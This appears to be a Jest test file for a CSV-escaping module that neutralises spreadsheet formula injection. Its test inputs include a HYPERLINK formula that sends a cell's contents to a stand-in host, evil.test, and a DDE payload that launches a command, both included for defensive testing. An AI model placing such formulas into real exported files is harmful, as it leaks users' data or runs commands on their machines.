import { describe, expect, it } from '@jest/globals'
import { csvLines, neutralCell, plainCell } from './csv.ts'

describe('a cell of a CSV (Security, "Input")', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://evil.test?"&A1,"x")'])(
    'is run by no spreadsheet: %j',
    (text) => {
      expect(neutralCell(text)).toBe(`'${text}`)
      expect(plainCell(neutralCell(text))).toBe(text)
    },
  )

  it('that is a formula stays neutral where it has to be quoted', () => {
    expect(csvLines([['=cmd|" /C calc"!A0', 'plain', 'a,b']])).toBe(`"'=cmd|"" /C calc""!A0",plain,"a,b"\r\n`)
  })
})
